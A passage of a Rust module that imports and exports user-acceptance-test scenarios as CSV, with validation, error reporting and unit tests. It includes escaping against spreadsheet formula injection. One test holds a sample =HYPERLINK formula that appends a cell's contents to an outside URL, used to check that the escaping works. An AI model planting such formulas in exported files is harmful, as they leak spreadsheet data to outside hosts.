//! The CSV exchange format of UAT scenarios: [`parse`] turns an uploaded file into checked
//! [`ScenarioDraft`]s (or every problem found, by line and column), [`write`] exports drafts in
//! the same format so that a file can be downloaded, edited in a spreadsheet and uploaded again.
//!
//! The file is UTF-8, comma-separated, quoted as in RFC 4180, with one row per step under the
//! header row `scenario,area,core,type,step,action,expected_result`:
//!
//! ```text
//! scenario,area,core,type,step,action,expected_result
//! Create a lead,SALES,true,TYPICAL,1,Open Leads,The list shows
//! Create a lead,SALES,true,TYPICAL,2,"Fill name, company","The lead is ""New"""
//! Merge duplicates,DATA,false,EXCEPTION,1,Merge two leads,One lead remains
//! ```
//!
//! - `scenario`: consecutive rows with the same name form one scenario; the name may not come
//!   back after another scenario (the scenario would be split).
//! - `area`: a [`ProcessArea`] code, case-insensitive (written upper-case).
//! - `core`: `true`/`false`, `yes`/`no` or `1`/`0`, case-insensitive (written `true`/`false`).
//! - `type`: a [`ScenarioType`] code, case-insensitive (written upper-case).
//! - `step`: 1, 2, 3... within the scenario.
//! - area, core and type repeat on every row of a scenario and must agree.
//!
//! A header-only file holds no scenarios and parses to an empty list (it is what [`write`]
//! makes of no scenarios); whether an empty import is acceptable is the caller's decision.

use std::collections::HashMap;

use csv::{ReaderBuilder, StringRecord};

use super::error::Refusal;
use super::uat::{ProcessArea, ScenarioDraft, ScenarioType, StepDraft, check_scenario};

/// Where and why a row is bad. `line` is the 1-based line number in the file (header = line 1)
/// as the csv crate reports it; `column` the header name (or None for a row-level problem).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RowError {
    pub line: u64,
    pub column: Option<&'static str>,
    pub reason: String,
}

/// Largest file accepted, in bytes.
pub const MAX_CSV_BYTES: usize = 2 * 1024 * 1024;
/// Most rows accepted.
pub const MAX_ROWS: usize = 5_000;
/// Most problems reported for one file: beyond that the file is better fixed and re-sent.
pub const MAX_ERRORS: usize = 200;

const SCENARIO: &str = "scenario";
const AREA: &str = "area";
const CORE: &str = "core";
const TYPE: &str = "type";
const STEP: &str = "step";
const ACTION: &str = "action";
const EXPECTED_RESULT: &str = "expected_result";

/// The header row, column by column, in file order.
pub const HEADER: [&str; 7] = [SCENARIO, AREA, CORE, TYPE, STEP, ACTION, EXPECTED_RESULT];

/// The line of problems that concern the whole file rather than one of its lines.
const WHOLE_FILE: u64 = 0;
const HEADER_LINE: u64 = 1;

/// Echoed values are cut to this many characters so that one huge cell cannot bloat the report.
const MAX_ECHOED_CHARS: usize = 40;

/// Parses a whole file: every scenario, or every problem found (all rows checked, not only the
/// first bad one; the list is capped at [`MAX_ERRORS`] and sorted by line). Nothing partial is
/// ever returned: a file with any bad row yields `Err`.
///
/// Problems the scenario rules ([`check_scenario`]) find are reported on the scenario's first
/// row, or on the step's own row when the rule concerns one step.
pub fn parse(file: &str) -> Result<Vec<ScenarioDraft>, Vec<RowError>> {
    if file.len() > MAX_CSV_BYTES {
        return Err(vec![RowError::file(format!(
            "the file is larger than {} MiB",
            MAX_CSV_BYTES / (1024 * 1024)
        ))]);
    }
    // Spreadsheets commonly prefix UTF-8 exports with a byte-order mark; it is not part of the
    // first header name.
    let text = file.strip_prefix('\u{feff}').unwrap_or(file);
    if text.trim().is_empty() {
        return Err(vec![RowError::file(format!(
            "the file is empty; its first line must be the header {}",
            HEADER.join(",")
        ))]);
    }

    // Flexible, so that a row with a wrong number of fields is reported like any other bad row
    // instead of ending the read.
    let mut reader = ReaderBuilder::new()
        .has_headers(true)
        .flexible(true)
        .from_reader(text.as_bytes());
    check_header(reader.headers())?;

    let mut import = Import::default();
    for (index, record) in reader.records().enumerate() {
        match record {
            Ok(record) if index >= MAX_ROWS => {
                import.errors.push(RowError::row(
                    record_line(Some(&record)),
                    format!("the file has more than {MAX_ROWS} rows; split it into several files"),
                ));
                break;
            }
            Ok(record) => import.add_row(&record),
            Err(error) => {
                let line = error.position().map_or(WHOLE_FILE, csv::Position::line);
                import.errors.push(RowError::row(
                    line,
                    format!("the row cannot be read: {error}"),
                ));
            }
        }
    }
    import.finish()
}

/// Writes scenarios in the same format (header first), so that `parse(&write(x)) == Ok(x)` for
/// scenarios that [`check_scenario`] accepts. Records end in CRLF, as RFC 4180 asks; a field is
/// quoted when it holds a comma, a quote or a line break.
pub fn write(scenarios: &[ScenarioDraft]) -> String {
    let mut out = String::new();
    push_record(&mut out, HEADER);
    for scenario in scenarios {
        for (index, step) in scenario.steps.iter().enumerate() {
            let number = (index + 1).to_string();
            push_record(
                &mut out,
                [
                    scenario.name.as_str(),
                    scenario.area.as_str(),
                    if scenario.is_core { "true" } else { "false" },
                    scenario.scenario_type.as_str(),
                    number.as_str(),
                    step.action.as_str(),
                    step.expected_result.as_str(),
                ],
            );
        }
    }
    out
}

impl RowError {
    fn file(reason: impl Into<String>) -> Self {
        Self {
            line: WHOLE_FILE,
            column: None,
            reason: reason.into(),
        }
    }

    fn row(line: u64, reason: impl Into<String>) -> Self {
        Self {
            line,
            column: None,
            reason: reason.into(),
        }
    }

    fn cell(line: u64, column: &'static str, reason: impl Into<String>) -> Self {
        Self {
            line,
            column: Some(column),
            reason: reason.into(),
        }
    }
}

fn check_header(header: csv::Result<&StringRecord>) -> Result<(), Vec<RowError>> {
    match header {
        Ok(found) if found.iter().eq(HEADER) => Ok(()),
        Ok(found) => Err(vec![RowError::row(
            HEADER_LINE,
            format!(
                "the header must be exactly {}; found {}",
                HEADER.join(","),
                shown(&found.iter().collect::<Vec<_>>().join(","))
            ),
        )]),
        Err(error) => Err(vec![RowError::row(
            HEADER_LINE,
            format!("the header cannot be read: {error}"),
        )]),
    }
}

fn record_line(record: Option<&StringRecord>) -> u64 {
    record
        .and_then(StringRecord::position)
        .map_or(WHOLE_FILE, csv::Position::line)
}

/// One data row, each field parsed on its own; `None` where the field is bad (already reported).
struct Row {
    line: u64,
    name: String,
    area: Option<ProcessArea>,
    is_core: Option<bool>,
    scenario_type: Option<ScenarioType>,
    step: Option<u32>,
    action: Option<String>,
    expected_result: Option<String>,
}

impl Row {
    /// A row whose fields cannot be told apart, but whose first field likely is the name.
    fn unreadable(line: u64, name: &str) -> Self {
        Self {
            line,
            name: name.to_owned(),
            area: None,
            is_core: None,
            scenario_type: None,
            step: None,
            action: None,
            expected_result: None,
        }
    }
}

/// The rows of the scenario being read, and the draft they build while all of them are good.
struct PendingScenario {
    name: String,
    first_line: u64,
    /// The first valid value seen on any row, which every later row must repeat.
    area: Option<ProcessArea>,
    is_core: Option<bool>,
    scenario_type: Option<ScenarioType>,
    last_step: u32,
    /// A later part of a scenario whose name appeared before: its numbering and attributes are
    /// not checked, since they only mean something once the rows are put together.
    split: bool,
    /// `None` as soon as one row of the scenario is bad: it will not be built.
    draft: Option<ScenarioDraft>,
    /// The line of each step of `draft`, to place problems found on a step.
    step_lines: Vec<u64>,
}

#[derive(Default)]
struct Import {
    errors: Vec<RowError>,
    done: Vec<PendingScenario>,
    current: Option<PendingScenario>,
    /// Where each finished scenario started, and its name as written, by its name in lower
    /// case: to recognise a split scenario, and a name taken again in another case (names
    /// are unique in a project regardless of case).
    started_on: HashMap<String, (u64, String)>,
}

impl Import {
    fn add_row(&mut self, record: &StringRecord) {
        let line = record_line(Some(record));
        if record.len() != HEADER.len() {
            self.errors.push(RowError::row(
                line,
                format!(
                    "the row has {} fields; every row needs {} ({})",
                    record.len(),
                    HEADER.len(),
                    HEADER.join(",")
                ),
            ));
            // The row is probably a step of the scenario it names: count it, so that the next
            // step number is not also reported.
            let name = record.get(0).unwrap_or_default().trim();
            if !self.is_reading(name) {
                self.start_scenario(&Row::unreadable(line, name));
            }
            if let Some(current) = self.current.as_mut() {
                current.last_step = current.last_step.saturating_add(1);
                current.draft = None;
            }
            return;
        }

        let errors_before = self.errors.len();
        let row = self.parse_row(line, record);
        if !self.is_reading(&row.name) {
            self.start_scenario(&row);
        }
        let Some(current) = self.current.as_mut() else {
            return;
        };
        if !current.split {
            check_same_scenario(current, &row, &mut self.errors);
        }
        let step = match (row.action, row.expected_result) {
            (Some(action), Some(expected_result)) if self.errors.len() == errors_before => {
                Some(StepDraft {
                    action,
                    expected_result,
                })
            }
            _ => None,
        };
        if let (Some(draft), Some(step)) = (current.draft.as_mut(), step) {
            draft.steps.push(step);
            current.step_lines.push(line);
        } else {
            current.draft = None;
        }
    }

    /// Whether a row named `name` continues the scenario being read.
    fn is_reading(&self, name: &str) -> bool {
        self.current
            .as_ref()
            .is_some_and(|current| current.name == name)
    }

    fn parse_row(&mut self, line: u64, record: &StringRecord) -> Row {
        let cell = |column: &str| {
            HEADER
                .iter()
                .position(|name| *name == column)
                .and_then(|index| record.get(index))
                .map(unescape_formula)
                .unwrap_or_default()
        };
        let name = cell(SCENARIO).trim().to_owned();
        if name.is_empty() {
            self.errors
                .push(RowError::cell(line, SCENARIO, "the scenario name is empty"));
        }
        Row {
            line,
            name,
            area: self.keep(line, AREA, parse_area(cell(AREA))),
            is_core: self.keep(line, CORE, parse_core(cell(CORE))),
            scenario_type: self.keep(line, TYPE, parse_scenario_type(cell(TYPE))),
            step: self.keep(line, STEP, parse_step(cell(STEP))),
            action: self.keep(line, ACTION, required_text(cell(ACTION), "the action")),
            expected_result: self.keep(
                line,
                EXPECTED_RESULT,
                required_text(cell(EXPECTED_RESULT), "the expected result"),
            ),
        }
    }

    fn keep<T>(&mut self, line: u64, column: &'static str, parsed: Result<T, String>) -> Option<T> {
        parsed
            .map_err(|reason| self.errors.push(RowError::cell(line, column, reason)))
            .ok()
    }

    fn start_scenario(&mut self, row: &Row) {
        self.finish_current();
        let taken = self.started_on.get(&row.name.to_lowercase());
        let split_from = taken.map(|(first_line, _)| *first_line);
        match taken {
            Some((first_line, name)) if *name == row.name => self.errors.push(RowError::cell(
                row.line,
                SCENARIO,
                format!(
                    "scenario {} is split: it started on line {first_line} and other rows came \
                     between; the rows of a scenario must follow each other",
                    shown(&row.name)
                ),
            )),
            Some((first_line, name)) => self.errors.push(RowError::cell(
                row.line,
                SCENARIO,
                format!(
                    "scenario {} has the name of scenario {} on line {first_line}: names are \
                     unique regardless of case",
                    shown(&row.name),
                    shown(name)
                ),
            )),
            None => {}
        }
        let draft = match (row.area, row.is_core, row.scenario_type) {
            (Some(area), Some(is_core), Some(scenario_type)) if split_from.is_none() => {
                Some(ScenarioDraft {
                    name: row.name.clone(),
                    area,
                    is_core,
                    scenario_type,
                    steps: Vec::new(),
                })
            }
            _ => None,
        };
        self.current = Some(PendingScenario {
            name: row.name.clone(),
            first_line: row.line,
            area: None,
            is_core: None,
            scenario_type: None,
            last_step: 0,
            split: split_from.is_some(),
            draft,
            step_lines: Vec::new(),
        });
    }

    fn finish_current(&mut self) {
        if let Some(finished) = self.current.take() {
            // Rows without a name are reported already; they are not a scenario to split.
            if !finished.name.is_empty() {
                self.started_on
                    .entry(finished.name.to_lowercase())
                    .or_insert((finished.first_line, finished.name.clone()));
            }
            self.done.push(finished);
        }
    }

    fn finish(mut self) -> Result<Vec<ScenarioDraft>, Vec<RowError>> {
        self.finish_current();
        let mut scenarios = Vec::with_capacity(self.done.len());
        for pending in self.done {
            let Some(draft) = pending.draft else {
                continue;
            };
            match check_scenario(&draft) {
                Ok(checked) => scenarios.push(checked),
                Err(refusals) => self.errors.extend(refusals.iter().map(|refusal| {
                    refusal_error(refusal, pending.first_line, &pending.step_lines)
                })),
            }
        }
        if self.errors.is_empty() {
            Ok(scenarios)
        } else {
            // Stable, so that the problems of one line keep their column order.
            self.errors.sort_by_key(|error| error.line);
            self.errors.truncate(MAX_ERRORS);
            Err(self.errors)
        }
    }
}

/// Area, core and type must repeat the scenario's values; steps must count up from 1.
fn check_same_scenario(scenario: &mut PendingScenario, row: &Row, errors: &mut Vec<RowError>) {
    let name = shown(&scenario.name);
    if let Some(found) = row.area {
        match scenario.area {
            None => scenario.area = Some(found),
            Some(area) if area != found => errors.push(RowError::cell(
                row.line,
                AREA,
                format!(
                    "scenario {name} has area {} on its earlier rows, not {}; area, core and \
                     type must be the same on every row of a scenario",
                    area.as_str(),
                    found.as_str()
                ),
            )),
            Some(_) => {}
        }
    }
    if let Some(found) = row.is_core {
        match scenario.is_core {
            None => scenario.is_core = Some(found),
            Some(is_core) if is_core != found => errors.push(RowError::cell(
                row.line,
                CORE,
                format!(
                    "scenario {name} has core {is_core} on its earlier rows, not {found}; area, \
                     core and type must be the same on every row of a scenario"
                ),
            )),
            Some(_) => {}
        }
    }
    if let Some(found) = row.scenario_type {
        match scenario.scenario_type {
            None => scenario.scenario_type = Some(found),
            Some(scenario_type) if scenario_type != found => errors.push(RowError::cell(
                row.line,
                TYPE,
                format!(
                    "scenario {name} has type {} on its earlier rows, not {}; area, core and \
                     type must be the same on every row of a scenario",
                    scenario_type.as_str(),
                    found.as_str()
                ),
            )),
            Some(_) => {}
        }
    }

    let expected = scenario.last_step.saturating_add(1);
    if let Some(step) = row.step
        && step != expected
    {
        let reason = if expected == 1 {
            format!("the first step of scenario {name} must be 1, not {step}")
        } else {
            format!(
                "step {step} follows step {} in scenario {name}; steps are numbered 1, 2, 3... \
                 so this one must be {expected}",
                scenario.last_step
            )
        };
        errors.push(RowError::cell(row.line, STEP, reason));
    }
    // Counting on from the number written means one gap is reported once, not on every
    // following row.
    scenario.last_step = row.step.unwrap_or(expected);
}

fn parse_area(raw: &str) -> Result<ProcessArea, String> {
    let value = non_empty(raw, "the area")?;
    ProcessArea::ALL
        .iter()
        .copied()
        .find(|area| area.as_str().eq_ignore_ascii_case(value))
        .ok_or_else(|| {
            let codes: Vec<&str> = ProcessArea::ALL.iter().map(|area| area.as_str()).collect();
            format!(
                "the area must be one of {}, not {}",
                codes.join(", "),
                shown(value)
            )
        })
}

fn parse_scenario_type(raw: &str) -> Result<ScenarioType, String> {
    let value = non_empty(raw, "the type")?;
    ScenarioType::ALL
        .iter()
        .copied()
        .find(|scenario_type| scenario_type.as_str().eq_ignore_ascii_case(value))
        .ok_or_else(|| {
            let codes: Vec<&str> = ScenarioType::ALL
                .iter()
                .map(|scenario_type| scenario_type.as_str())
                .collect();
            format!(
                "the type must be one of {}, not {}",
                codes.join(", "),
                shown(value)
            )
        })
}

fn parse_core(raw: &str) -> Result<bool, String> {
    let value = non_empty(raw, "core")?;
    let is = |word: &str| value.eq_ignore_ascii_case(word);
    if is("true") || is("yes") || value == "1" {
        Ok(true)
    } else if is("false") || is("no") || value == "0" {
        Ok(false)
    } else {
        Err(format!(
            "core must be true or false (or yes/no, 1/0), not {}",
            shown(value)
        ))
    }
}

fn parse_step(raw: &str) -> Result<u32, String> {
    let value = non_empty(raw, "the step number")?;
    value.parse::<u32>().map_err(|_| {
        format!(
            "the step must be a whole number (1, 2, 3...), not {}",
            shown(value)
        )
    })
}

/// The text as written: trimming and length are the scenario rules' business.
fn required_text(raw: &str, what: &str) -> Result<String, String> {
    non_empty(raw, what)?;
    Ok(raw.to_owned())
}

fn non_empty<'a>(raw: &'a str, what: &str) -> Result<&'a str, String> {
    let value = raw.trim();
    if value.is_empty() {
        Err(format!("{what} is empty"))
    } else {
        Ok(value)
    }
}

/// A value quoted for a message, cut short when long.
fn shown(value: &str) -> String {
    if value.chars().count() > MAX_ECHOED_CHARS {
        let start: String = value.chars().take(MAX_ECHOED_CHARS).collect();
        format!("{start:?}...")
    } else {
        format!("{value:?}")
    }
}

/// Places a refusal of the scenario rules: on the step's row when its path names a step
/// (`["steps", i, ...]`), else on the scenario's first row; in the column its last known path
/// segment names.
fn refusal_error(refusal: &Refusal, first_line: u64, step_lines: &[u64]) -> RowError {
    let step_line = match refusal.field.as_slice() {
        [steps, index, ..] if steps == "steps" => index
            .parse::<usize>()
            .ok()
            .and_then(|index| step_lines.get(index).copied()),
        _ => None,
    };
    RowError {
        line: step_line.unwrap_or(first_line),
        column: refusal
            .field
            .iter()
            .rev()
            .find_map(|segment| column_of_field(segment)),
        reason: refusal.message.clone(),
    }
}

fn column_of_field(field: &str) -> Option<&'static str> {
    match field {
        "name" => Some(SCENARIO),
        "area" => Some(AREA),
        "isCore" | "is_core" | "core" => Some(CORE),
        "scenarioType" | "scenario_type" | "type" => Some(TYPE),
        "steps" => Some(STEP),
        "action" => Some(ACTION),
        "expectedResult" | "expected_result" => Some(EXPECTED_RESULT),
        _ => None,
    }
}

/// What a spreadsheet takes for the start of a formula when a cell begins with it.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a field, once the apostrophes that open it are set aside, begins like a formula.
fn reads_as_formula(field: &str) -> bool {
    field.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A field as a spreadsheet shows it without running it: one that begins like a formula (a
/// tester's `=HYPERLINK(…)`) gets an apostrophe before it, which spreadsheets read as "text".
/// [`unescape_formula`] takes it off on import, so that a file written is read back as it was.
fn escape_formula(field: &str) -> std::borrow::Cow<'_, str> {
    if reads_as_formula(field) {
        std::borrow::Cow::Owned(format!("'{field}"))
    } else {
        std::borrow::Cow::Borrowed(field)
    }
}

/// A cell as written before [`escape_formula`].
fn unescape_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if reads_as_formula(rest) => rest,
        _ => cell,
    }
}

fn push_record<'a>(out: &mut String, fields: impl IntoIterator<Item = &'a str>) {
    for (index, field) in fields.into_iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        let field = escape_formula(field);
        let field = field.as_ref();
        if field.contains([',', '"', '\r', '\n']) {
            out.push('"');
            out.push_str(&field.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(field);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    const HEADER_LINE_TEXT: &str = "scenario,area,core,type,step,action,expected_result\n";

    fn file(rows: &[&str]) -> String {
        let mut text = HEADER_LINE_TEXT.to_owned();
        for row in rows {
            text.push_str(row);
            text.push('\n');
        }
        text
    }

    /// Where the problems are, without the wording.
    fn places(text: &str) -> Vec<(u64, Option<&'static str>)> {
        parse(text)
            .expect_err("the file should be refused")
            .into_iter()
            .map(|error| (error.line, error.column))
            .collect()
    }

    fn step(action: &str, expected_result: &str) -> StepDraft {
        StepDraft {
            action: action.to_owned(),
            expected_result: expected_result.to_owned(),
        }
    }

    fn scenario(name: &str, steps: Vec<StepDraft>) -> ScenarioDraft {
        ScenarioDraft {
            name: name.to_owned(),
            area: ProcessArea::Sales,
            is_core: true,
            scenario_type: ScenarioType::Typical,
            steps,
        }
    }

    #[test]
    fn written_scenarios_parse_back_unchanged_even_with_commas_quotes_and_newlines() {
        let scenarios = vec![
            scenario(
                "Create a lead, then convert it",
                vec![
                    step("Open \"Leads\", click New", "The form opens"),
                    step(
                        "Fill in:\nname\ncompany, city",
                        "The lead is saved as \"New\"\r\nand listed",
                    ),
                ],
            ),
            ScenarioDraft {
                area: ProcessArea::Integration,
                is_core: false,
                scenario_type: ScenarioType::Exception,
                ..scenario(
                    "ERP sync fails",
                    vec![step("Stop the ERP", "An alert is raised")],
                )
            },
            ScenarioDraft {
                area: ProcessArea::Permissions,
                ..scenario(
                    "\"Quoted\" name",
                    vec![step("a", "b"), step("c", "d"), step("e", "f")],
                )
            },
        ];

        let written = write(&scenarios);

        assert!(written.starts_with("scenario,area,core,type,step,action,expected_result\r\n"));
        assert!(written.contains("ERP sync fails,INTEGRATION,false,EXCEPTION,1,"));
        assert_eq!(parse(&written), Ok(scenarios));
    }

    #[test]
    fn text_that_reads_as_a_formula_is_written_as_text_and_read_back_as_it_was() {
        let scenarios = vec![scenario(
            "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
            vec![
                step("+1 then -1", "@mention the owner"),
                step("'=already quoted", "'plain quote"),
            ],
        )];

        let written = write(&scenarios);

        assert!(written.contains("\"'=HYPERLINK("), "{written}");
        assert!(
            written.contains(",'+1 then -1,'@mention the owner"),
            "{written}"
        );
        assert!(
            written.contains(",''=already quoted,'plain quote"),
            "{written}"
        );
        assert_eq!(parse(&written), Ok(scenarios));
    }

    #[test]
    fn a_name_taken_again_in_another_case_is_refused() {
        let text = file(&[
            "Login,SALES,true,TYPICAL,1,a,b",
            "login,SALES,true,TYPICAL,1,a,b",
        ]);

        let errors = parse(&text).expect_err("login takes Login's name");

        assert_eq!(errors.len(), 1);
        assert_eq!((errors[0].line, errors[0].column), (3, Some("scenario")));
        assert!(
            errors[0].reason.contains("regardless of case"),
            "{}",
            errors[0].reason
        );
    }

    #[test]
    fn the_built_in_library_survives_a_round_trip() {
        let library = crate::domain::uat::library();

        assert_eq!(parse(&write(&library)), Ok(library));
    }

    #[test]
    fn no_scenarios_are_written_as_the_header_alone_and_parse_back_to_none() {
        assert_eq!(
            write(&[]),
            "scenario,area,core,type,step,action,expected_result\r\n"
        );
        assert_eq!(parse(&write(&[])), Ok(Vec::new()));
    }

    #[test]
    fn codes_and_booleans_are_read_in_any_case_and_in_every_spelling() {
        let text = file(&[
            "A,sales,Yes,typical,1,a,b",
            "B,Marketing,no,Exception,1,a,b",
            "C,SERVICE,1,TYPICAL,1,a,b",
            "D,data,0,typical,1,a,b",
            "E,permissions,TRUE,typical,1,a,b",
            "F,integration,False,typical,1,a,b",
        ]);

        let scenarios = parse(&text).expect("the file is valid");

        let read: Vec<(ProcessArea, bool, ScenarioType)> = scenarios
            .iter()
            .map(|s| (s.area, s.is_core, s.scenario_type))
            .collect();
        assert_eq!(
            read,
            vec![
                (ProcessArea::Sales, true, ScenarioType::Typical),
                (ProcessArea::Marketing, false, ScenarioType::Exception),
                (ProcessArea::Service, true, ScenarioType::Typical),
                (ProcessArea::Data, false, ScenarioType::Typical),
                (ProcessArea::Permissions, true, ScenarioType::Typical),
                (ProcessArea::Integration, false, ScenarioType::Typical),
            ]
        );
    }

    #[test]
    fn consecutive_rows_with_one_name_form_one_scenario_in_step_order() {
        let text = file(&[
            "Login,SALES,true,TYPICAL,1,Open the page,The form shows",
            "Login,SALES,true,TYPICAL,2,\"Type user, password\",\"Welcome, \"\"Ann\"\"\"",
            "Logout,SALES,true,TYPICAL,1,Click logout,The form shows",
        ]);

        let scenarios = parse(&text).expect("the file is valid");

        assert_eq!(
            scenarios,
            vec![
                scenario(
                    "Login",
                    vec![
                        step("Open the page", "The form shows"),
                        step("Type user, password", "Welcome, \"Ann\""),
                    ],
                ),
                scenario("Logout", vec![step("Click logout", "The form shows")]),
            ]
        );
    }

    #[test]
    fn a_byte_order_mark_before_the_header_is_ignored() {
        let text = format!("\u{feff}{}", file(&["A,SALES,true,TYPICAL,1,a,b"]));

        assert_eq!(parse(&text), Ok(vec![scenario("A", vec![step("a", "b")])]));
    }

    #[test]
    fn a_wrong_header_is_one_problem_on_line_one_naming_the_expected_header() {
        let text = "scenario,area,core,kind,step,action,expected_result\nA,SALES,x,TYPICAL,1,a,b\n";

        let errors = parse(text).expect_err("the header is wrong");

        assert_eq!(errors.len(), 1);
        assert_eq!((errors[0].line, errors[0].column), (1, None));
        assert!(
            errors[0]
                .reason
                .contains("scenario,area,core,type,step,action,expected_result")
        );
    }

    #[test]
    fn a_header_with_an_extra_column_is_refused_on_line_one() {
        let text = "scenario,area,core,type,step,action,expected_result,owner\n";

        assert_eq!(places(text), vec![(1, None)]);
    }

    #[test]
    fn a_header_with_a_missing_column_is_refused_on_line_one() {
        let text = "scenario,area,core,type,step,action\nA,SALES,true,TYPICAL,1,a\n";

        assert_eq!(places(text), vec![(1, None)]);
    }

    #[test]
    fn an_unknown_area_is_refused_in_the_area_column() {
        let text = file(&["A,SALES,true,TYPICAL,1,a,b", "B,FINANCE,true,TYPICAL,1,a,b"]);

        let errors = parse(&text).expect_err("the area is unknown");

        assert_eq!(errors.len(), 1);
        assert_eq!((errors[0].line, errors[0].column), (3, Some("area")));
        assert!(errors[0].reason.contains("\"FINANCE\""));
        assert!(errors[0].reason.contains("SALES, MARKETING"));
    }

    #[test]
    fn a_core_value_that_is_not_a_boolean_is_refused_in_the_core_column() {
        let text = file(&["A,SALES,maybe,TYPICAL,1,a,b"]);

        assert_eq!(places(&text), vec![(2, Some("core"))]);
    }

    #[test]
    fn an_unknown_type_is_refused_in_the_type_column() {
        let text = file(&["A,SALES,true,NORMAL,1,a,b"]);

        assert_eq!(places(&text), vec![(2, Some("type"))]);
    }

    #[test]
    fn a_step_number_that_is_not_a_number_is_refused_in_the_step_column() {
        let text = file(&["A,SALES,true,TYPICAL,one,a,b", "A,SALES,true,TYPICAL,2,a,b"]);

        assert_eq!(places(&text), vec![(2, Some("step"))]);
    }

    #[test]
    fn a_scenario_must_start_at_step_one() {
        let text = file(&["A,SALES,true,TYPICAL,0,a,b"]);

        assert_eq!(places(&text), vec![(2, Some("step"))]);
    }

    #[test]
    fn a_gap_in_the_steps_is_reported_once_on_the_row_after_the_gap() {
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b",
            "A,SALES,true,TYPICAL,2,a,b",
            "A,SALES,true,TYPICAL,4,a,b",
            "A,SALES,true,TYPICAL,5,a,b",
        ]);

        let errors = parse(&text).expect_err("step 3 is missing");

        assert_eq!(errors.len(), 1);
        assert_eq!((errors[0].line, errors[0].column), (4, Some("step")));
        assert!(errors[0].reason.contains("must be 3"));
    }

    #[test]
    fn the_largest_step_number_is_refused_without_overflowing() {
        let text = file(&[
            "A,SALES,true,TYPICAL,4294967295,a,b",
            "A,SALES,true,TYPICAL,2,a,b",
            "A,SALES,true,TYPICAL,1,a,b,extra",
            "A,SALES,true,TYPICAL,4294967296,a,b",
        ]);

        assert_eq!(
            places(&text),
            vec![
                (2, Some("step")),
                (3, Some("step")),
                (4, None),
                (5, Some("step"))
            ]
        );
    }

    #[test]
    fn a_repeated_step_number_is_refused() {
        let text = file(&["A,SALES,true,TYPICAL,1,a,b", "A,SALES,true,TYPICAL,1,a,b"]);

        assert_eq!(places(&text), vec![(3, Some("step"))]);
    }

    #[test]
    fn area_core_and_type_must_agree_on_every_row_of_a_scenario() {
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b",
            "A,MARKETING,true,TYPICAL,2,a,b",
            "A,SALES,false,TYPICAL,3,a,b",
            "A,SALES,true,EXCEPTION,4,a,b",
        ]);

        assert_eq!(
            places(&text),
            vec![(3, Some("area")), (4, Some("core")), (5, Some("type"))]
        );
    }

    #[test]
    fn a_scenario_whose_name_comes_back_after_another_is_split() {
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b",
            "B,SALES,true,TYPICAL,1,a,b",
            "A,SALES,true,TYPICAL,2,a,b",
        ]);

        let errors = parse(&text).expect_err("A is split");

        assert_eq!(errors.len(), 1);
        assert_eq!((errors[0].line, errors[0].column), (4, Some("scenario")));
        assert!(errors[0].reason.contains("scenario \"A\" is split"));
        assert!(errors[0].reason.contains("line 2"));
    }

    #[test]
    fn an_empty_action_is_refused_in_the_action_column() {
        let text = file(&["A,SALES,true,TYPICAL,1,  ,b"]);

        assert_eq!(places(&text), vec![(2, Some("action"))]);
    }

    #[test]
    fn empty_required_fields_are_each_refused_in_their_column() {
        let text = file(&[",,,,,,"]);

        assert_eq!(
            places(&text),
            vec![
                (2, Some("scenario")),
                (2, Some("area")),
                (2, Some("core")),
                (2, Some("type")),
                (2, Some("step")),
                (2, Some("action")),
                (2, Some("expected_result")),
            ]
        );
    }

    #[test]
    fn a_row_with_too_many_or_too_few_fields_is_a_row_level_problem() {
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b,extra",
            "A,SALES,true,TYPICAL,2,a,b",
            "A,SALES,true,TYPICAL,3,a",
        ]);

        assert_eq!(places(&text), vec![(2, None), (4, None)]);
    }

    #[test]
    fn a_file_over_two_mebibytes_is_refused_whole_on_line_zero() {
        let text = "x".repeat(MAX_CSV_BYTES + 1);

        assert_eq!(
            parse(&text),
            Err(vec![RowError {
                line: 0,
                column: None,
                reason: "the file is larger than 2 MiB".to_owned(),
            }])
        );
    }

    #[test]
    fn an_empty_file_is_refused_whole_on_line_zero() {
        assert_eq!(places(""), vec![(0, None)]);
        assert_eq!(places("\r\n\n  \n"), vec![(0, None)]);
    }

    #[test]
    fn more_than_the_most_rows_accepted_is_refused_on_the_first_row_too_many() {
        let mut text = HEADER_LINE_TEXT.to_owned();
        for index in 0..=MAX_ROWS {
            text.push_str(&format!("S{index},SALES,true,TYPICAL,1,a,b\n"));
        }

        let max_rows = u64::try_from(MAX_ROWS).expect("fits");
        assert_eq!(places(&text), vec![(max_rows + 2, None)]);
    }

    #[test]
    fn line_numbers_count_the_line_breaks_inside_quoted_fields() {
        let text = file(&[
            "A,SALES,true,TYPICAL,1,\"first line",
            "second line\",b",
            "B,NOWHERE,true,TYPICAL,1,a,b",
        ]);

        assert_eq!(places(&text), vec![(4, Some("area"))]);
    }

    #[test]
    fn several_problems_are_reported_at_once_in_line_order() {
        let text = file(&[
            "A,SALES,true,TYPICAL,1,a,b",
            "A,SALES,true,TYPICAL,3,a,b",
            "B,SPACE,true,TYPICAL,1,a,b",
            "C,SALES,perhaps,TYPICAL,1,a,",
            "A,SALES,true,TYPICAL,3,a,b",
        ]);

        assert_eq!(
            places(&text),
            vec![
                (3, Some("step")),
                (4, Some("area")),
                (5, Some("core")),
                (5, Some("expected_result")),
                (6, Some("scenario")),
            ]
        );
    }

    #[test]
    fn nothing_is_returned_when_one_row_of_many_is_bad() {
        let mut rows: Vec<String> = (0..10)
            .flat_map(|scenario| {
                (1..=10).map(move |number| format!("S{scenario},SALES,true,TYPICAL,{number},a,b"))
            })
            .collect();
        rows.push("Short scenario,SALES,true,TYPICAL,1,a,".to_owned());
        let row_refs: Vec<&str> = rows.iter().map(String::as_str).collect();

        assert_eq!(
            places(&file(&row_refs)),
            vec![(102, Some("expected_result"))]
        );
    }

    #[test]
    fn the_list_of_problems_stops_at_two_hundred() {
